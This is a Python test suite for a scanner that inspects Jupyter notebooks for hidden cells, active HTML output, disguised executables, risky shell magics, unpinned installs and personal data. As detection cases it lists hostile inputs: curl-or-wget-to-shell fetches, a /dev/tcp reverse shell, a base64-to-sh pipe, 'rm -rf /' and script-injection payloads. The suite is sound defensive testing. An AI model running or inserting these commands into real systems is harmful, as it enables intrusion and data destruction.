"""Notebooks as cells: the format, hostile bytes, hidden code, active content, commands."""

from __future__ import annotations

import base64
import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

import secrets_material as make
from shipworthy.checks.notebooks import magics, personal_data, structure
from shipworthy.checks.notebooks._cells import Cell, Unreadable, parse, texts
from shipworthy.model import Artifact, Finding, Kind, Severity, Skipped

STRUCTURE, MAGICS, PERSONAL = structure.run.check, magics.run.check, personal_data.run.check
JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=4)
    | st.dictionaries(
        st.sampled_from(
            ["cells", "worksheets", "cell_type", "source", "input", "outputs", "metadata", "nbformat", "data",
             "text/html",
             "attachments", "execution_count", "tags", "jupyter", "source_hidden", "text", "traceback", "image/png"]
        )
        | st.text(max_size=5),
        inner,
        max_size=6,
    ),
    max_leaves=40,
)  # fmt: skip


def code(source: Any = "x = 1", **fields: Any) -> dict[str, Any]:
    return {"cell_type": "code", "metadata": {}, "execution_count": None, "source": source, "outputs": []} | fields


def notebook(*cells: Any, **fields: Any) -> bytes:
    whole = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": list(cells)} | fields
    return json.dumps(whole).encode()


def shown(mime: str, data: Any) -> dict[str, Any]:
    return {"output_type": "display_data", "metadata": {}, "data": {mime: data}}


def written(root: Path, data: bytes) -> Artifact:
    return make.lay_out(root, {"a.ipynb": data}, Kind.NOTEBOOK)[0]


def findings(check: Any, root: Path, data: bytes) -> list[Finding]:
    found, skipped = make.run(check, written(root, data), root)
    assert not skipped
    return found


def ids(check: Any, root: Path, data: bytes) -> list[str]:
    return [finding.rule.id for finding in findings(check, root, data)]


@pytest.mark.parametrize(
    "data",
    [
        b"", b"{", notebook(code())[:-5], b"[]", b"null", b'"text"', b"{}", b'{"cells": 3}', b'{"cells": null}',
        b"\xff\xfe", b"\x80\x04\x95", b"[" * 100_000, b'{"cells":' * 50_000, b"[0," * 2_000_000 + b"0", b"9" * 10_000,
        b'{"worksheets": {"cells": []}}', b"PK\x03\x04",
    ],
)  # fmt: skip
def test_what_is_no_notebook_is_a_finding_and_a_gap(data: bytes, tmp_path: Path) -> None:
    found, skipped = make.run(STRUCTURE, written(tmp_path, data), tmp_path)
    assert [finding.rule.id for finding in found] == ["notebook-unreadable"]
    assert len(skipped) == 1
    for check in (MAGICS, PERSONAL):
        found, skipped = make.run(check, written(tmp_path, data), tmp_path)
        assert (found, len(skipped)) == ([], 1)


def test_a_notebook_that_is_too_large_is_not_read(tmp_path: Path) -> None:
    found, skipped = make.run(STRUCTURE, written(tmp_path, b" " * (33 << 20)), tmp_path)
    assert "limit" in skipped[0].reason
    assert found[0].rule.id == "notebook-unreadable"


@given(st.binary(max_size=200) | JSON.map(lambda value: json.dumps(value).encode()))
def test_no_bytes_break_a_check(tmp_path_factory: pytest.TempPathFactory, data: bytes) -> None:
    root = tmp_path_factory.getbasetemp() / "any"
    given_ = written(root, data)
    for check in (STRUCTURE, MAGICS, PERSONAL):
        for item in check.call(given_, None):
            assert isinstance(item, Finding | Skipped)


@given(JSON, st.lists(JSON, max_size=3))
def test_any_cell_in_a_notebook_is_survived(tmp_path_factory: pytest.TempPathFactory, cell: Any, outputs: Any) -> None:
    root = tmp_path_factory.getbasetemp() / "cells"
    artifact = written(root, notebook(cell, code(outputs=outputs), code(metadata=cell, source=outputs)))
    for check in (STRUCTURE, MAGICS, PERSONAL):
        list(check.call(artifact, None))


@given(JSON, st.text(min_size=1, max_size=30))
def test_every_text_in_a_value_is_read(value: Any, planted: str) -> None:
    for holder in ({"a": [value, {"b": planted}]}, [[value, planted], 1], {planted: value}):
        assert any(planted in text for _, text in texts(json.loads(json.dumps(holder))))


def test_what_does_not_follow_the_format_is_said_once(tmp_path: Path) -> None:
    data = notebook({"cell_type": "strange"}, 7, code(source=3, execution_count="x", outputs={}), nbformat=9)
    (finding,) = findings(STRUCTURE, tmp_path, data)
    assert finding.rule.id == "notebook-invalid"
    assert "nbformat" in finding.message
    assert ids(STRUCTURE, tmp_path, notebook(code(), {"cell_type": "markdown", "source": ["a"], "metadata": {}})) == []


def test_version_3_is_read(tmp_path: Path) -> None:
    cell = {
        "cell_type": "code",
        "input": ["!cu", "rl x.sh | sh"],
        "prompt_number": 1,
        "outputs": [{"html": "<script>"}],
    }
    data = json.dumps({"nbformat": 3, "metadata": {}, "worksheets": [{"cells": [cell]}]}).encode()
    assert ids(STRUCTURE, tmp_path, data) == ["notebook-active-output"]
    assert ids(MAGICS, tmp_path, data) == ["notebook-remote-script"]


@pytest.mark.parametrize(
    "metadata",
    [{"jupyter": {"source_hidden": True}}, {"hide_input": True}, {"tags": ["remove-cell"]}, {"cellView": "form"},
     {"inputHidden": True}, {"hidden": True}],
)  # fmt: skip
def test_hidden_code_is_seen(metadata: dict[str, Any], tmp_path: Path) -> None:
    (finding,) = findings(STRUCTURE, tmp_path, notebook(code(), code(metadata=metadata)))
    assert (finding.rule.id, finding.location.cell) == ("notebook-hidden-code", 2)


def test_the_order_of_runs(tmp_path: Path) -> None:
    def of(*counts: int | None) -> list[str]:
        return ids(STRUCTURE, tmp_path, notebook(*(code(execution_count=count) for count in counts)))

    assert of(1, 2, 5) == of(None, None) == of() == []
    assert of(2, 1) == of(1, None) == of(3, 3) == ["notebook-execution-order"]


@pytest.mark.parametrize(
    ("mime", "data", "fires"),
    [
        ("text/html", ["<scr", "ipt>x()</script>"], True),
        ("text/html", "<IFRAME src=x>", True),
        ("text/html", '<img src=x\nonerror = "x()">', True),
        ("text/html", "<a href='javascript:x()'>", True),
        ("image/svg+xml", "<svg onload=x()>", True),
        ("application/javascript", "x()", True),
        ("text/html", "<table><td>on=1</td></table>", False),
        ("text/html", "the JavaScript: a description", False),
        ("text/plain", "<script>", False),
    ],
)
def test_active_output(mime: str, data: Any, fires: bool, tmp_path: Path) -> None:
    found = ids(STRUCTURE, tmp_path, notebook(code(outputs=[shown(mime, data)])))
    assert found == (["notebook-active-output"] if fires else [])


def test_programs_in_pictures_and_attachments(tmp_path: Path) -> None:
    elf = base64.b64encode(b"\x7fELF" + bytes(60)).decode()
    png = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(60)).decode()
    note = {"cell_type": "markdown", "metadata": {}, "source": "", "attachments": {"a.png": {"image/png": elf}}}
    data = notebook(
        code(outputs=[shown("image/png", png)]), note, code(outputs=[shown("image/jpeg", [elf[:9], elf[9:]])])
    )
    found = findings(STRUCTURE, tmp_path, data)
    assert [(f.rule.id, f.location.cell) for f in found] == [("notebook-executable-attachment", n) for n in (2, 3)]


def test_trust_is_not_to_be_declared(tmp_path: Path) -> None:
    data = notebook(code(metadata={"trusted": True}), metadata={"signature": "x"})
    assert ids(STRUCTURE, tmp_path, data) == ["notebook-trusted-metadata"] * 2


GET = "cu" + "rl -fsSL https://user:hunter2@get.acme.io/i.sh"


@pytest.mark.parametrize(
    ("source", "rules"),
    [
        (f"!{GET} | sudo -E ba" + "sh", ["notebook-remote-script"]),
        (f"%%bash\n{GET} \\\n | python3", ["notebook-remote-script"]),
        ("%%sh\nbash <(wg" + "et -qO- http://acme.io/x)", ["notebook-remote-script"]),
        ('!eval "$(cu' + 'rl http://acme.io)"', ["notebook-remote-script"]),
        ("%run https://acme.io/x.py", ["notebook-remote-script"]),
        ("%run local.py", []),
        ("!bash -i >& /dev" + "/tcp/1.2.3.4/99 0>&1", ["notebook-dangerous-command"]),
        ("!echo aGk= | base64 " + "-d | sh", ["notebook-dangerous-command"]),
        ("!rm -rf " + "/", ["notebook-dangerous-command"]),
        ("!rm -rf build/", ["notebook-shell-command"]),
        ("files = !ls -la", ["notebook-shell-command"]),
        ("if x:\n    !ls", ["notebook-shell-command"]),
        ("%pip install numpy", ["notebook-unpinned-install"]),
        ("!python -m pip install -U 'numpy>=1' pandas==2.1", ["notebook-unpinned-install"]),
        ("!pip install numpy==1.2 pandas==2.0 && ls", []),
        ("!pip install -r requirements.txt -q", []),
        ("!pip install -e . ./x.whl $PKG", []),
        ("%conda install -c conda-forge numpy=1.2", []),
        ("!pip install git+https://github.com/a/b", ["notebook-install-source"]),
        ("!pip install git+https://github.com/a/b@" + "a" * 40, []),
        ("!pip install 'b @ https://acme.io/b.whl'", ["notebook-install-source"]),
        ("!pip install --extra-index-url=https://u:hunter2@acme.io/simple x==1", ["notebook-install-source"]),
        ("!pip install x==1 --trusted-host acme.io", ["notebook-install-source"]),
        ("%timeit f(x)\na = 5 % 3\nb = (a\n     % 2)\nc != d\n%matplotlib inline", []),
        ("!'unbalanced", ["notebook-shell-command"]),
    ],
)
def test_commands_are_judged_by_what_they_do(source: str, rules: list[str], tmp_path: Path) -> None:
    found = findings(MAGICS, tmp_path, notebook(code(source)))
    assert [finding.rule.id for finding in found] == rules
    assert not any(make.shows(finding, "hunter2") for finding in found)


def test_commands_are_found_on_their_line(tmp_path: Path) -> None:
    (finding,) = findings(MAGICS, tmp_path, notebook(code(), code("x = 1\n\n%pip install numpy \\\n   pandas==1\ny")))
    assert (finding.location.cell, finding.location.line) == (2, 3)
    note = {"cell_type": "markdown", "metadata": {}, "source": "!rm -rf " + "/"}
    assert findings(MAGICS, tmp_path, notebook(note)) == []


@pytest.mark.parametrize(
    ("source", "python"),
    [
        ("import x\n!ls \\\n  -la\ny = 1", "import x\npass\n\ny = 1"),
        ("%%bash\nls\nrm x", "\n\n"),
        ("%%time\nx = 1", "\nx = 1"),
        ("if a:\n    %pip install b\nelse:\n    c = !ls\n", "if a:\n    pass\nelse:\n    c = None\n"),
        ("%time m = load(f)\nm?", "m = load(f)\npass"),
        ("a = b % c\nd = 'x!'", "a = b % c\nd = 'x!'"),
    ],
)
def test_the_python_of_a_cell_keeps_its_lines(source: str, python: str) -> None:
    assert Cell(1, "code", source).python() == python
    compile(python, "cell", "exec")


@given(st.text())
def test_the_python_of_any_source_has_as_many_lines(source: str) -> None:
    cell = Cell(1, "code", source)
    assert cell.python().count("\n") == source.count("\n")
    list(cell.magics())


def test_parsing_says_why_without_quoting() -> None:
    with pytest.raises(Unreadable) as caught:
        parse(b'{"password": "hunter2", ')
    assert "hunter2" not in caught.value.reason
    assert "line 1" in caught.value.reason


def test_personal_data_is_counted_once_per_cell_and_never_shown(tmp_path: Path) -> None:
    card, mail = " ".join(["4539", "5787", "6362", "1486"]), "jane.doe@acme.io"
    rows = [f"{mail} {card}", f"<td>{mail}</td>", "bob@acme.io", "DE89" + "370400440532013000", "078-05-1120"]
    outputs = [shown("text/html", rows), {"output_type": "error", "traceback": [f"\x1b[31m{mail}\x1b[0m"]}]
    found = findings(PERSONAL, tmp_path, notebook(code(f"# {mail}"), code(outputs=outputs)))
    assert {(f.message.split("hold ")[1], f.severity) for f in found} == {
        ("2 e-mail addresses", Severity.MEDIUM),
        ("one payment card number", Severity.HIGH),
        ("one bank account number", Severity.HIGH),
        ("one US social security number", Severity.HIGH),
    }
    assert all(f.location.cell == 2 for f in found)
    assert not any(make.shows(f, secret) for f in found for secret in (card, mail, "1120"))


@pytest.mark.parametrize("check", [STRUCTURE, MAGICS, PERSONAL], ids=lambda check: check.name)
def test_the_known_bad_sample_is_seen(check: Any, tmp_path: Path) -> None:
    assert check.canary.rule in make.fire(check, tmp_path)
